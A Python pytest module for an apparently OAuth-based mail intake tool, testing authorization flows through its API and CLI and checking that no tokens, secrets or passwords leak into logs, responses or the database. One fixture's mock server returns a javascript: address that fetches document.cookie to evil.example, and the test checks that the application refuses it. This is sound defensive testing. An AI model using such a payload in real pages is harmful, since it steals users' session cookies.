"""The Authorize action through the REST API (with the serve callback) and the CLI, and a
proof that no token, secret or password reaches logs, command output or API responses."""

from __future__ import annotations

import json
import os
import queue
import re
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import MetaData, select

from mailintake.oauth.tokens import load_auth, stored_access
from mailintake.store.repo import Store
from sandbox.idp import IdentityProvider
from tests.support.cli import run_cli
from tests.support.http_receiver import serving
from tests.support.oauth import (
    ANNA,
    ANNA_PASSWORD,
    GRAPH_APP,
    GRAPH_SECRET,
    NATIVE_APP,
    NATIVE_REDIRECT,
    WEB_APP,
    WEB_SECRET,
    Browser,
    configure,
    mailbox,
)


def test_api_authorize_client_credentials_and_a_refusal(
    api: TestClient, store: Store, idp: IdentityProvider
) -> None:
    configure(
        store,
        idp.base_url,
        mailbox("app", "client_credentials", client_id=GRAPH_APP, client_secret=GRAPH_SECRET),
        mailbox("bad", "client_credentials", client_id=GRAPH_APP, client_secret="nope"),
    )
    answer = api.post("/api/v1/mailboxes/app/authorize")
    assert answer.status_code == 200
    assert answer.json()["authorization_state"] == "authorized"
    assert answer.json()["message"].startswith("Login successful")
    refused = api.post("/api/v1/mailboxes/bad/authorize").json()
    assert refused["authorization_state"] == "error"
    assert refused["code"] == "AADSTS7000215"
    status = {m["name"]: m for m in api.get("/api/v1/status").json()["mailboxes"]}
    assert status["app"]["authorization_state"] == "authorized"
    assert status["bad"]["authorization_state"] == "error"
    assert "Value" in status["bad"]["authorization_detail"]


def test_api_authorization_code_returns_to_the_serve_callback(
    api: TestClient, store: Store, idp: IdentityProvider
) -> None:
    configure(
        store,
        idp.base_url,
        mailbox(
            "web",
            "authorization_code",
            client_id=WEB_APP,
            client_secret=WEB_SECRET,
            redirect_uri="http://127.0.0.1:8080/api/v1/oauth/callback",
        ),
    )
    started = api.post("/api/v1/mailboxes/web/authorize").json()
    assert started["authorization_state"] == "pending"
    assert started["callback"] is True
    final = Browser(ANNA, ANNA_PASSWORD).sign_in(
        started["authorization_url"], follow_loopback=False
    )
    parts = urlsplit(final)
    assert parts.path == "/api/v1/oauth/callback"
    page = api.get(f"{parts.path}?{parts.query}")
    assert page.status_code == 200
    assert "Login successful" in page.text
    assert api.get("/api/v1/mailboxes/web/authorization").json()["account"] == ANNA
    # The same answer twice is refused: the attempt is used up.
    again = api.get(f"{parts.path}?{parts.query}")
    assert again.status_code == 400


def _read_lines(stream: object, into: queue.Queue[str]) -> None:
    for line in stream:  # type: ignore[attr-defined]
        into.put(line)


def test_cli_authorize_with_no_browser(
    tmp_path: Path, home: Path, database_url: str, store: Store, idp: IdentityProvider
) -> None:
    configure(
        store,
        idp.base_url,
        mailbox(
            "user", "authorization_code", client_id=NATIVE_APP, redirect_uri="http://localhost/"
        ),
    )
    env = {k: v for k, v in os.environ.items() if not k.startswith("MAILINTAKE_")}
    env.update(MAILINTAKE_HOME=str(home), MAILINTAKE_DATABASE_URL=database_url)
    process = subprocess.Popen(
        [sys.executable, "-m", "mailintake", "--log-level", "info", "authorize", "user",
         "--no-browser", "--timeout", "60"],
        env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
    )  # fmt: skip
    lines: queue.Queue[str] = queue.Queue()
    threading.Thread(target=_read_lines, args=(process.stderr, lines), daemon=True).start()
    seen = []
    try:
        while True:
            line = lines.get(timeout=60)
            seen.append(line)
            found = re.search(r"(http://127\.0\.0\.1:\d+/\S*authorize\?\S+)", line)
            if found:
                break
        Browser(ANNA, ANNA_PASSWORD).sign_in(found.group(1))
        stdout, _ = process.communicate(timeout=60)
    finally:
        if process.poll() is None:
            process.kill()
    stderr = "".join(seen) + "".join(lines.queue)
    assert process.returncode == 0, stderr
    assert f"user: Login successful as {ANNA}" in stdout
    text = stdout + stderr
    with store.read() as repo:
        grant = repo.grant("user")
        token = repo.access_token("user", "https://graph.microsoft.com")
    assert grant is not None
    assert grant.refresh_token is not None
    assert token is not None
    for secret in (grant.refresh_token, token.token, ANNA_PASSWORD):
        assert secret not in text


def test_no_token_secret_or_password_in_logs_responses_or_database(
    api: TestClient, store: Store, idp: IdentityProvider, capfd: pytest.CaptureFixture[str]
) -> None:
    configure(
        store,
        idp.base_url,
        mailbox("app", "client_credentials", client_id=GRAPH_APP, client_secret=GRAPH_SECRET),
        mailbox("ropc", "password", client_id=NATIVE_APP, password=ANNA_PASSWORD),
    )
    responses = [
        api.post("/api/v1/mailboxes/app/authorize"),
        api.post("/api/v1/mailboxes/ropc/authorize"),
        api.get("/api/v1/mailboxes/app/authorization"),
        api.get("/api/v1/mailboxes/ropc"),
        api.get("/api/v1/status"),
        api.get("/api/v1/config/export"),
    ]
    text = "".join(r.text for r in responses) + "".join(capfd.readouterr())
    with store.read() as repo:
        # the application's token is shared by its mailboxes; a user's is the mailbox's own
        tokens = [stored_access(repo, load_auth(repo, n)) for n in ("app", "ropc")]
        refresh = repo.grant("ropc")
    secrets = [t.token for t in tokens if t is not None]
    assert len(secrets) == 2
    if refresh is not None and refresh.refresh_token:
        secrets.append(refresh.refresh_token)
    secrets += [GRAPH_SECRET, ANNA_PASSWORD]
    meta = MetaData()
    meta.reflect(store.engine)
    with store.engine.connect() as conn:
        database = "\n".join(
            repr(row) for table in meta.sorted_tables for row in conn.execute(select(table))
        )
    for secret in secrets:
        assert secret not in text
        assert secret not in database


def test_api_device_code_and_the_paste_path(
    api: TestClient, store: Store, idp: IdentityProvider
) -> None:
    configure(store, idp.base_url,
              mailbox("device", "device_code", client_id=NATIVE_APP),
              mailbox("paste", "authorization_code", client_id=NATIVE_APP,
                      redirect_uri=NATIVE_REDIRECT))  # fmt: skip
    started = api.post("/api/v1/mailboxes/device/authorize").json()
    assert started["authorization_state"] == "pending"
    assert started["verification_uri"].endswith("/devicelogin")
    Browser(ANNA, ANNA_PASSWORD).device_sign_in(started["verification_uri"], started["user_code"])
    deadline = time.monotonic() + 30
    while True:
        state = api.get("/api/v1/mailboxes/device/authorization").json()
        if state["device"]["outcome"] is not None or time.monotonic() > deadline:
            break
        time.sleep(0.2)
    assert state["device"]["outcome"]["authorization_state"] == "authorized"
    assert state["authorization_state"] == "authorized"
    assert state["account"] == ANNA

    started = api.post("/api/v1/mailboxes/paste/authorize").json()
    assert started["callback"] is False
    final = Browser(ANNA, ANNA_PASSWORD).sign_in(
        started["authorization_url"], follow_loopback=False
    )
    answer = api.post("/api/v1/mailboxes/paste/authorize/complete", json={"url": final})
    assert answer.json()["authorization_state"] == "authorized", answer.text
    again = api.post("/api/v1/mailboxes/paste/authorize/complete", json={"url": final})
    assert again.status_code == 422
    assert again.json()["problems"] == [
        "url: this sign-in was not started here or has expired; authorize again"
    ]


def test_a_refused_completion_for_another_mailbox_leaves_the_sign_in_intact(
    api: TestClient, store: Store, idp: IdentityProvider
) -> None:
    """Mailbox A's pending sign-in, completed in a request for mailbox B, is refused, and A's
    own completion still works afterwards."""
    configure(store, idp.base_url,
              mailbox("paste", "authorization_code", client_id=NATIVE_APP,
                      redirect_uri=NATIVE_REDIRECT),
              mailbox("other", "authorization_code", client_id=NATIVE_APP,
                      redirect_uri=NATIVE_REDIRECT))  # fmt: skip
    started = api.post("/api/v1/mailboxes/paste/authorize").json()
    final = Browser(ANNA, ANNA_PASSWORD).sign_in(
        started["authorization_url"], follow_loopback=False
    )
    crossed = api.post("/api/v1/mailboxes/other/authorize/complete", json={"url": final})
    assert crossed.status_code == 422
    assert crossed.json()["problems"] == [
        "url: this sign-in was not started here or has expired; authorize again"
    ]
    other = api.get("/api/v1/mailboxes/other/authorization").json()
    assert other["authorization_state"] == "not_authorized"
    answer = api.post("/api/v1/mailboxes/paste/authorize/complete", json={"url": final})
    assert answer.json()["authorization_state"] == "authorized", answer.text
    assert api.get("/api/v1/mailboxes/paste/authorization").json()["account"] == ANNA


class _DeviceAnswer(BaseHTTPRequestHandler):
    """A token server whose device authorization answer carries a script as its address."""

    verification_uri = "javascript:fetch('//evil.example/?'+document.cookie)"

    def do_POST(self) -> None:
        self.rfile.read(int(self.headers.get("Content-Length", "0")))
        body = json.dumps(
            {
                "device_code": "dc-1",
                "user_code": "ABCD-EFGH",
                "verification_uri": self.verification_uri,
                "expires_in": 900,
                "interval": 5,
                "message": "Open the page and enter ABCD-EFGH",
            }
        ).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture
def scripted_device_server() -> Iterator[str]:
    with serving(_DeviceAnswer) as base:
        yield base


def test_a_device_code_address_that_is_not_https_is_refused(
    api: TestClient, store: Store, home: Path, database_url: str, scripted_device_server: str
) -> None:
    configure(store, scripted_device_server,
              mailbox("device", "device_code", client_id=NATIVE_APP))  # fmt: skip
    refused = api.post("/api/v1/mailboxes/device/authorize")
    assert refused.status_code == 502, refused.text
    text = refused.text
    assert "the device authorization endpoint answered verification_uri" in text
    assert "javascript:fetch" in text
    assert "not an https:// address" in text
    assert "user_code" not in refused.json()
    env = {k: v for k, v in os.environ.items() if not k.startswith("MAILINTAKE_")}
    env.update(MAILINTAKE_HOME=str(home), MAILINTAKE_DATABASE_URL=database_url)
    cli = run_cli(
        ["authorize", "device", "--device-code", "--no-browser", "--timeout", "5"], env=env
    )
    assert cli.returncode == 4, cli.stderr
    assert "not an https:// address" in cli.stderr
    assert "ABCD-EFGH" not in cli.stdout + cli.stderr  # nothing to open was shown
